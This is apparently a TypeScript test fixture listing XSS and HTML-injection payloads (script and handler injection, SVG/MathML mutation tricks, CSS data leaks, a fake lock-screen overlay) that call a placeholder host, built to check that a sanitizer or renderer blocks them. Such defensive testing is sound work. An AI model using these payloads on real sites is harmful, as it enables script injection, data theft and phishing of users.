import { STYLE_ATTACKS } from './style-attacks.ts';

/** What a hostile page tries when it is looked at. `OUT` stands for a server that must hear nothing. */
const RUN = `fetch('OUT/ran');new Image().src='OUT/ran';alert('ran');top.location='OUT/top'`;

export const ATTACKS: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script><script src="OUT/a.js"></script><script type="module">import 'OUT/m.js'</script>`,
  handlers: `<img src=x onerror="${RUN}"><body onload="${RUN}"><input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}">`,
  animation: `<style>@keyframes a{from{color:red}}#x{animation:a 1ms}</style><p id="x" onanimationstart="${RUN}">x</p>`,
  refresh: '<meta http-equiv="refresh" content="0;url=OUT/refresh"><meta http-equiv="set-cookie" content="a=b">',
  policy: `<meta http-equiv="content-security-policy" content="script-src *"><script>${RUN}</script>`,
  'javascript links': `<a id="js" href="javascript:${RUN}">a</a><a href="&#106;avascript:${RUN}">b</a><a href=" java\tscript:${RUN}">c</a>`,
  'data links': `<a href="data:text/html,<script>${RUN}</script>">d</a><iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  links:
    '<a id="out" href="OUT/link" ping="OUT/ping">go</a><a id="top" href="OUT/link" target="_top">go</a><a id="blank" href="OUT/blank" target="_blank">go</a>',
  map: '<img usemap="#m" src="OUT/map.png"><map name="m"><area href="OUT/area" shape="default"></map>',
  svg: `<svg onload="${RUN}"><script>${RUN}</script><image href="OUT/i.png"/><use href="OUT/u.svg#a"/><foreignObject><iframe src="OUT/f"></iframe></foreignObject><a href="OUT/l"><text y="20">svg</text></a><animate attributeName="href" to="javascript:${RUN}"/></svg>`,
  'svg drawing': `<svg viewBox="0 0 10 10" onload="${RUN}"><style>@import 'OUT/i.css';@font-face{font-family:f;src:url(OUT/f)}rect{fill:url(OUT/p.svg#a);clip-path:url("OUT/c.svg#a");mask:url(OUT/m)}</style><style></svg><img src=x onerror="${RUN}"></style><rect width="9" height="9" fill="url(OUT/fill.svg#a)" style="filter:url(OUT/s.svg#f)" clip-path="u\\72l(OUT/esc.svg#a)" onclick="${RUN}"/><use xlink:href="OUT/u.svg#b"/><use href="data:image/svg+xml,<svg id='x' onload='1'/>#x"/><image xlink:href="OUT/i.png"/><filter id="f"><feImage href="OUT/fe.png"/></filter><linearGradient id="g" xlink:href="OUT/g.svg#a"/><pattern id="q"><image href="OUT/pt.png"/></pattern><set attributeName="href" to="OUT/set"/><discard begin="0"/><handler type="text/javascript">${RUN}</handler><text>a<![CDATA[</text></svg><script>${RUN}</script>]]></text><title><p><img src=x onerror="${RUN}"></p></title><desc><iframe src="OUT/d"></iframe></desc><mpath href="OUT/mp"/><cursor href="OUT/cu"/></svg>`,
  'svg mutation': `<svg></p><style><!--</style><a title="--&gt;&lt;img src=x onerror=1&gt;"></svg><svg><desc><svg><style><a id="</style><img src=x onerror='${RUN.replaceAll("'", '')}'>"></svg></desc></svg><svg><text><p></text><b><svg><script>${RUN}</script></svg>`,
  'svg picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN.replaceAll("'", '')}'/>"><img src="OUT/x.svg">`,
  mathml: `<math href="OUT/math"><mtext><style><img src=x onerror="${RUN}"></style></mtext><maction actiontype="statusline" xlink:href="javascript:${RUN}">m</maction></math>`,
  'mutated markup': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN.replaceAll('"', '')}&gt;">`,
  'raw text': `<noscript><p title="</noscript><img src=x onerror='${RUN.replaceAll("'", '')}'>"></noscript><xmp><img src=x onerror=1></xmp><textarea></textarea><script>${RUN}</script><title></title><script>${RUN}</script>`,
  'style end': `<style>a{content:"</style><script>${RUN}</script>"}</style><style><!--</style><img src=x onerror="${RUN}">--></style>`,
  worker: `<script>navigator.serviceWorker.register('/sw.js');new Worker('OUT/w.js')</script><link rel="manifest" href="OUT/manifest">`,
  css: '<style>@import "OUT/i.css";@import url(OUT/j.css);@font-face{font-family:f;src:url(OUT/f.woff)}body{font-family:f;background:url(OUT/bg.png)}p{background:u\\72l("OUT/esc.png");list-style:url( "OUT/l.png" );cursor:url(OUT/c.cur),auto;border-image:image-set("OUT/s.png" 1x);mask:url(OUT/m.svg#a)}p::after{content:url(OUT/after.png)}</style><p style="background:url(OUT/inline.png)">css</p>',
  'css leak':
    '<style>input[value^="a"]{background:url(OUT/a)}</style><input value="abc"><link rel="stylesheet" href="OUT/s.css">',
  base: '<base href="OUT/base/"><img src="relative.png"><a href="relative">r</a>',
  frames: `<iframe src="OUT/frame"></iframe><iframe srcdoc="<script>${RUN.replaceAll('"', '')}</script>"></iframe><object data="OUT/o"></object><embed src="OUT/e"><portal src="OUT/p"></portal><fencedframe src="OUT/ff"></fencedframe>`,
  frameset: '<frameset cols="50%,50%"><frame src="OUT/f1"><frame src="OUT/f2"></frameset>',
  hints:
    '<link rel="prefetch" href="OUT/p"><link rel="preconnect" href="OUT/"><link rel="dns-prefetch" href="//outside.invalid"><link rel="preload" as="image" href="OUT/pl"><link rel="modulepreload" href="OUT/mp"><link rel="prerender" href="OUT/pr"><link rel="icon" href="OUT/favicon.ico"><script type="speculationrules">{"prefetch":[{"urls":["OUT/spec"]}]}</script>',
  media:
    '<video src="OUT/v" poster="OUT/poster" autoplay></video><audio src="OUT/a" autoplay></audio><video><source src="OUT/vs"><track src="OUT/t" default></video><picture><source srcset="OUT/ps"><img src="OUT/pi" srcset="OUT/s1 1x, OUT/s2 2x"></picture><input type="image" src="OUT/ii"><table background="OUT/tb"><tr><td background="OUT/td">x</table>',
  form: '<form id="f" action="OUT/form" method="post"><input name="q" value="1"><button id="send">send</button><button formaction="OUT/fa">x</button></form><isindex action="OUT/isindex">',
  template: `<template shadowrootmode="open"><img src="OUT/shadow"><script>${RUN}</script></template><my-element onclick="${RUN}"></my-element>`,
  overlay: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">The desk is locked. Enter the key.</div>',
  'sheets elsewhere':
    '<link rel="stylesheet" href="OUT/a.css"><link rel="preload" as="style" href="OUT/b.css" onload="this.rel=\'stylesheet\'"><link rel="stylesheet" href="data:text/css,p{background:url(OUT/c)}"><link rel="stylesheet" href="javascript:1"><style media="screen){p{background:url(OUT/d)}}@media (x">p{color:red}</style><style type="text/less">p{background:url(OUT/e)}</style><style media="OUT/f">p{color:red}</style>',
  ...Object.fromEntries(
    Object.entries(STYLE_ATTACKS).map(([name, css]) => [
      `style: ${name}`,
      `<style>${css}</style><p title="OUT/t" style="${css.replaceAll('"', '&quot;')}">styled</p>`,
    ]),
  ),
  xml: `<?xml-stylesheet href="OUT/x.xsl"?><![CDATA[<script>${RUN}</script>]]><!--><script>${RUN}</script>-->`,
};

export const attackPage = (attack: string, out: string): string =>
  `<!doctype html><html><head><title>Shop</title></head><body><p>Our goods</p>${attack.replaceAll('OUT', out)}<p>The end</p></body></html>`;
